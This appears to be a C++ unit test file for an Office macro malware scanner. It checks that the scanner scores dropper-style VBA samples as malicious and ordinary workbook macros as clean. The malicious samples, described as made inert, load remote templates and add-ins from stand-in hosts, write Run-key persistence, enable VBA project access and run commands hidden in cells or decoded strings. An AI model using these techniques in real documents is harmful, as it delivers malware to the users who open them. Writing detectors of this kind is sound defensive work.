#include "scanner/office/macro_calls.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <random>
#include <string>
#include <vector>

#include "base/text.h"
#include "model/finding.h"
#include "scanner/office/macro_findings.h"
#include "scanner/office/macro_launch.h"

namespace sekisho::scanner::office {
namespace {

struct Verdict {
    double score = 0.5;  // that of office.macro
    std::string ids;
};
Verdict judge(const std::vector<std::string>& modules) {
    MacroTraits traits;
    for (const std::string& source : modules)
        (void)traits.read(source, "M");
    Findings findings(100);
    traits.report(0, findings);
    Verdict out;
    bool autoexec = false;
    bool launch = false;
    for (const model::Finding& finding : findings.all()) {
        out.score += model::find_finding(finding.id)->score;
        out.ids += finding.id.substr(11) + " ";
        autoexec = autoexec || finding.id.ends_with(".autoexec");
        launch = launch || finding.id.ends_with(".exec") || finding.id.ends_with(".download");
    }
    if (autoexec && launch) out.score += model::find_finding("combo.autoexec.launch")->score;
    return out;
}
std::string opened(const std::string& body) { return "Sub AutoOpen()\n" + body + "\nEnd Sub\n"; }
std::string pressed(const std::string& body) { return "Sub Button1_Click()\n" + body + "\nEnd Sub\n"; }

struct Sample {
    const char* name;
    std::string body;
};

// Each is one that droppers of recent years have used, made inert. The thresholds are the shipped ones.
class MaliciousWhenOpened : public testing::TestWithParam<Sample> {};
TEST_P(MaliciousWhenOpened, Scores) {
    const Verdict verdict = judge({opened(GetParam().body)});
    EXPECT_GE(verdict.score, 10.0) << verdict.ids;
}
INSTANTIATE_TEST_SUITE_P(
    All, MaliciousWhenOpened,
    testing::Values(
        Sample{"AddIn", "Workbooks.Open \"http://example.invalid/a.xlam\""},
        Sample{"NamedArgument",
               "Workbooks.Open Filename:=\"http://example.invalid/a.xlsm?x=1\", ReadOnly:=True"},
        Sample{"AddInOfAShare", "AddIns.Add(\"\\\\192.0.2.7\\s\\a.xll\").Installed = True"},
        Sample{"Document", "Documents.Open \"http://example.invalid/a.docm\""},
        Sample{"Template", "ActiveDocument.AttachedTemplate = \"http://example.invalid/a.dotm\""},
        Sample{"NewFromTemplate", "Documents.Add Template:=\"https://example.invalid/a.dotm\""},
        Sample{"Follow", "ThisDocument.FollowHyperlink \"file://192.0.2.7/s/a.exe\""},
        Sample{"Conversation", "c = Application.DDEInitiate(\"cmd\", \"/c rem INERT\")"},
        Sample{"RunKey",
               "CreateObject(\"WScript.Shell\").RegWrite "
               "\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a\", \"x\""},
        Sample{"RunKeyByWord",
               "System.PrivateProfileString(\"\", "
               "\"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"a\") = b"},
        Sample{"GuardOff",
               "k = \"HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\AccessVBOM\"\n"
               "o.RegWrite k, 1, \"REG_DWORD\""},
        Sample{"LibraryOfTemp",
               "p = Environ(\"TEMP\") & \"\\a.dll\"\nOpen p For Binary As #1\nLoadLibraryA p"},
        Sample{"AddInOfTemp", "Application.RegisterXLL Environ(\"TEMP\") & \"\\a.xll\""},
        Sample{"WrittenScript",
               "Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"C:\\Users\\"
               "Public\\a.hta\")\nCreateObject(\"Shell.Application\").Open "
               "\"C:\\Users\\Public\\a.hta\""},
        Sample{"StyleSheet",
               "Set d = CreateObject(\"Microsoft.XMLDOM\")\nd.Load "
               "\"http://example.invalid/a.xsl\"\nd.transformNode d"},
        Sample{"Virus", "NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s"},
        Sample{"Cell",
               "x = Sheets(1).Range(\"B77\").Value & Sheets(1).Range(\"B78\").Value\nShell x, vbHide"},
        Sample{"Property", "Shell ActiveDocument.BuiltInDocumentProperties(\"Comments\").Value, 0"},
        Sample{"Variables",
               "CallByName CreateObject(ActiveDocument.Variables(\"a\").Value), "
               "ActiveDocument.Variables(\"b\").Value, VbMethod"},
        Sample{"Paragraph",
               "p = ActiveDocument.Paragraphs(1).Range.Text\n"
               "CreateObject(\"WScript.Shell\").Run StrReverse(p), 0"},
        Sample{"CustomXml",
               "Set x = ActiveDocument.CustomXMLParts(4).SelectSingleNode(\"/a\")\n"
               "CreateObject(\"WScript.Shell\").Exec x.Text"},
        Sample{"Decoded",
               "For Each x In Split(a, \",\")\ns = s & Chr(x - 110)\nNext\nVBA.Interaction.Shell s, 0"},
        Sample{"Answer", "Shell h.responseText"}, Sample{"Brackets", "Shell [A1], 0"},
        Sample{"Evaluated",
               "Set s = CreateObject(\"ScriptControl\")\ns.AddCode ActiveDocument.Content.Text"}),
    [](const auto& info) { return info.param.name; });

// What honest workbooks do when they are opened.
class CleanWhenOpened : public testing::TestWithParam<Sample> {};
TEST_P(CleanWhenOpened, Scores) {
    const Verdict verdict = judge({opened(GetParam().body)});
    EXPECT_LT(verdict.score, 5.0) << verdict.ids;
}
INSTANTIATE_TEST_SUITE_P(
    All, CleanWhenOpened,
    testing::Values(
        Sample{"Rates",
               "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
               "\"https://www.example.com/rates.csv\", False\nh.send\nSet s = "
               "CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile "
               "ThisWorkbook.Path & \"\\rates.csv\", 2"},
        Sample{"Listing",
               "Set e = CreateObject(\"WScript.Shell\").Exec(\"cmd /c dir /b \"\"\" & "
               "ThisWorkbook.Path & \"\"\"\")"},
        Sample{"Printed",
               "Shell \"\"\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\"\" /t \"\"\" & "
               "ThisWorkbook.Path & \"\\a.pdf\"\"\", vbHide"},
        Sample{"BatchOfTheHouse",
               "CreateObject(\"WScript.Shell\").Run \"\\\\srv\\tools\\update.bat\", 1, True"},
        Sample{"BookOfTheHouse", "Workbooks.Open \"\\\\srv\\keiri\\master.xlsm\""},
        Sample{"BookOfSharePoint", "Workbooks.Open \"https://corp.sharepoint.com/sites/a/master.xlsm\""},
        Sample{"TableOfTheWeb", "Workbooks.Open \"https://www.example.com/rates.csv\""},
        Sample{"PageOfTheWeb", "ThisWorkbook.FollowHyperlink \"https://www.example.com/help\""},
        Sample{"Template", "ActiveDocument.AttachedTemplate = \"\\\\srv\\templates\\letter.dotm\""},
        Sample{"Link", "ActiveSheet.Hyperlinks.Add Range(\"A1\"), \"http://example.invalid/a.xlsm\""},
        Sample{"Read", "x = o.RegRead(\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a\")"},
        Sample{"LogIsShown",
               "p = Environ(\"TEMP\") & \"\\log.txt\"\nOpen p For Append As #1\nShell "
               "\"notepad.exe \" & Environ(\"TEMP\") & \"\\log.txt\", vbNormalFocus"},
        Sample{"OtherKeyIsWritten",
               "If o.RegRead(\"HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security\\"
               "AccessVBOM\") = 0 Then MsgBox \"x\"\no.RegWrite "
               "\"HKCU\\Software\\Firm\\a\", 1"},
        Sample{"ShortcutIsWritten", "Open d & \"\\portal.url\" For Output As #1"},
        Sample{"KeyIsRead",
               "x = System.PrivateProfileString(\"\", "
               "\"HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\", \"a\")"},
        Sample{"JsonOfACell",
               "Set s = CreateObject(\"ScriptControl\")\ns.Language = \"JScript\"\nSet o = "
               "s.Eval(\"(\" & Range(\"A1\").Value & \")\")"},
        Sample{"UpdateIsOffered",
               "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", "
               "\"https://www.example.com/v.txt\", False\nh.send\nIf h.responseText > \"1\" Then "
               "ThisWorkbook.FollowHyperlink \"https://www.example.com/download/\""},
        Sample{"ShortcutOnTheDesktop",
               "Set s = CreateObject(\"WScript.Shell\").CreateShortcut(d & \"\\a.lnk\")\n"
               "s.TargetPath = ThisWorkbook.FullName\ns.Save"},
        Sample{"FolderInAZip", "Set a = CreateObject(\"Shell.Application\")\na.Open ThisWorkbook.Path"},
        Sample{"BookOfACell", "Workbooks.Open Range(\"B1\").Value"},
        Sample{"Feed", "c = Application.DDEInitiate(\"RSS\", \"7203.T\")"},
        Sample{"Style", "d.Load ThisWorkbook.Path & \"\\a.xsl\"\nd.transformNode d"}),
    [](const auto& info) { return info.param.name; });

// Opening a table of elsewhere, with macros or without, is suspicious at most.
TEST(MacroCalls, TableOfAStrangersServer) {
    const Verdict verdict = judge({opened("Workbooks.Open \"http://www.example.com/price.xls\"")});
    EXPECT_GE(verdict.score, 5.0) << verdict.ids;
    EXPECT_LT(verdict.score, 10.0) << verdict.ids;
}

// The same words behind a button, beside a macro that runs by itself and does something else.
TEST(MacroCalls, WhatPeopleStartIsNotHidden) {
    const std::string open = opened("Sheets(1).Activate");
    EXPECT_LT(
        judge({open, pressed("ShellExecute 0, \"open\", \"https://www.example.com/\", \"\", \"\", 1")}).score,
        5.0);
    for (const char* body :
         {"Shell Range(\"B1\").Value", "Shell \"C:\\Tools\\a.exe \" & Range(\"B1\").Value"}) {
        const Verdict verdict = judge({open, pressed(body)});
        EXPECT_EQ(verdict.ids.find("hidden-command"), std::string::npos) << body;
        EXPECT_LT(verdict.score, 10.0) << body;
    }
}

TEST(MacroCalls, AnInstalledProgramMayBeGivenATemporaryFile) {
    for (const char* body : {"Shell \"C:\\Program Files\\App\\app.exe \" & Environ(\"TEMP\") & \"\\a.ini\"",
                             "ShellExecute Environ(\"TEMP\") & \"\\a.pdf\"",
                             "Shell Environ(\"LOCALAPPDATA\") & \"\\Programs\\App\\app.exe\""})
        EXPECT_EQ(judge({opened(body)}).ids.find("dropper"), std::string::npos) << body;
    for (const char* body : {"Shell Environ(\"TEMP\") & \"\\a.exe\"", "Shell \"C:\\Users\\Public\\a.exe x\"",
                             "p = Environ(\"APPDATA\") & \"\\a.exe\"\nShell p"})
        EXPECT_NE(judge({opened(body)}).ids.find("dropper"), std::string::npos) << body;
}

TEST(MacroCalls, ProgramThatTheSourceNamesIsNotHidden) {
    for (const char* body : {"Shell \"C:\\Tools\\a.exe \" & Range(\"B1\").Value",
                             "Shell Chr(34) & \"C:\\Tools\\a.exe\" & Chr(34)",
                             "c = \"winzip32.exe \"\nc = c & Range(\"B1\").Value\nShell c",
                             "p = ThisWorkbook.Path\nShell p & Range(\"B1\").Value"})
        EXPECT_EQ(judge({opened(body)}).ids.find("hidden-command"), std::string::npos) << body;
}

TEST(MacroCalls, ValuesAreFollowedThroughProcedures) {
    const std::string by_argument = "Sub Go(what As String)\nShell what\nEnd Sub\n";
    EXPECT_NE(judge({opened("Go Range(\"A1\").Value"), by_argument}).ids.find("hidden-command"),
              std::string::npos);
    EXPECT_EQ(judge({opened("Go \"a.exe\""), by_argument}).ids.find("hidden-command"), std::string::npos);
    const std::string by_value = "Function Word1()\nWord1 = Cells(1, 2).Value\nEnd Function\n";
    EXPECT_NE(judge({opened("Shell Word1()"), by_value}).ids.find("hidden-command"), std::string::npos);
    const std::string later = "Sub zz()\nShell [A1]\nEnd Sub\n";
    EXPECT_NE(judge({opened("Application.OnTime Now, \"Module1.zz\""), later}).ids.find("hidden-command"),
              std::string::npos);
    EXPECT_EQ(judge({opened("x = 1"), later}).ids.find("hidden-command"), std::string::npos)
        << "nobody calls it";
}

TEST(MacroCalls, LibraryWhereEverybodyMayWrite) {
    const std::string odd =
        "Private Declare PtrSafe Sub go Lib \"C:\\Users\\Public\\a.dll\" Alias \"#1\" ()\n";
    EXPECT_GE(judge({odd + opened("go")}).score, 10.0);
    const std::string own = "Private Declare PtrSafe Sub go Lib \"C:\\Program Files\\A\\a.dll\" ()\n";
    EXPECT_LT(judge({own + opened("go")}).score, 5.0);
}

TEST(MacroLaunch, HarmlessOnes) {
    const struct {
        const char* rest;
        bool harmless;
    } cases[] = {
        {" \"explorer.exe /select,\" & x", true},
        {"(\"c:\\windows\\notepad.exe a.txt\")", true},
        {" \"c:\\users\\public\\notepad.exe\"", false},
        {" \"explorer c:\\programdata\\a.vbs\"", false},
        {" \"explorer \" & x & \"\\a.hta\"", false},
        {" \"cmd /c dir c:\\\"", true},
        {" \"cmd /c dir & mshta x\"", false},
        {" \"cmd /c dir \" & x", false},
        {" \"cmd /c start a\"", false},
        {" \"cmd /k dir\"", false},
        {" \"\\\\srv\\a\\b.bat\"", true},
        {" \"\\\\192.0.2.7\\a\\b.bat\"", false},
        {" \"\\\\srv@80\\a\\b.bat\"", false},
        {" \"\\\\example.invalid\\a\\b.bat\"", false},
        {" x", false},
        {"", false},
    };
    for (const auto& c : cases)
        EXPECT_EQ(is_harmless_launch(c.rest), c.harmless) << c.rest;
}

TEST(MacroStatements, Arguments) {
    std::size_t at = 0;
    const MacroStatement statement = next_statement("shell (x), 0 : y", at);
    ASSERT_EQ(statement.tokens.size(), 6u);
    EXPECT_EQ(split_arguments(MacroTokens(statement.tokens).subspan(1)).size(), 2u);
    EXPECT_EQ(statement.text, "shell (x), 0");
    const std::string quoted = "a = \"b \"\"c\"\" : d\" ' e";
    at = 0;
    const MacroStatement literal = next_statement(quoted, at);
    ASSERT_EQ(literal.tokens.size(), 3u);
    EXPECT_EQ(text_of_literal(literal.tokens[2].text), "b \"c\" : d");
    EXPECT_EQ(at, quoted.size());
}

TEST(MacroCallsProperty, AnyCutAndAnyByteIsRead) {
    const std::string whole =
        opened(
            "p = Environ(\"TEMP\") & \"\\a.dll\"\nOpen p For Binary As #1\nShell f(Range("
            "\"A1\").Value, [B1]), 0") +
        "Function f(a, ByVal b As String)\nf = a & Chr(b)\nEnd Function\n";
    std::mt19937 random(5);  // NOLINT: the same every time
    for (std::size_t at = 0; at < whole.size(); ++at) {
        (void)judge({whole.substr(0, at)});
        std::string changed = whole;
        changed[at] = static_cast<char>(random());
        EXPECT_GE(judge({changed}).score, 0.5);
    }
}

// Words that are repeated cost what they are long, and no more.
TEST(MacroCallsProperty, LongStatementsAreLinear) {
    for (const char* piece :
         {"shell ", ".run \"", "a(", "go go ", "\"", "x = y & ", "sub go(a)\n", "[", "shell(\"\\\\a"}) {
        std::string source = "sub autoopen()\n";
        while (source.size() < (64u << 10))
            source += piece;
        MacroCalls calls;
        calls.read(source, "M");
        EXPECT_LE(calls.hidden_launch().size(), 130u) << piece;
    }
}

// Each call names as hidden all that the procedure takes; once is enough.
TEST(MacroCallsProperty, ManyParametersAndManyCallsAreLinear) {
    std::string parameters = "a0";
    for (int i = 1; i < 900; ++i)
        parameters += ",a" + std::to_string(i);
    std::string source;
    for (int i = 0; i < 8; ++i)
        source += "sub q(" + parameters + ")\nend sub\n";
    source += "sub autoopen()\n";
    while (source.size() < (256u << 10))
        source += "q[\n";
    MacroCalls calls;
    calls.read(source + "end sub\n", "M");
    EXPECT_EQ(calls.hidden_launch(), "");
}

// A declaration is told by what stands right behind its name, not at the end of the module.
TEST(MacroCallsProperty, DeclarationsBeforeManyBlanksAreLinear) {
    std::string source;
    while (source.size() < (128u << 10))
        source += "Sub ShellExecute Lib \n";
    source += std::string(128u << 10, ' ') + "\n";
    MacroTraits traits;
    (void)traits.read(source, "M");
    EXPECT_FALSE(traits.has(MacroTraits::Trait::autoexec));
}

TEST(MacroCalls, MoreThanIsKeptIsTold) {
    MacroCalls calls;
    calls.read(std::string(MacroCalls::most_kept, ' '), "M");
    EXPECT_FALSE(calls.full());
    calls.read("sub a()", "N");
    EXPECT_TRUE(calls.full());
}

}  // namespace
}  // namespace sekisho::scanner::office
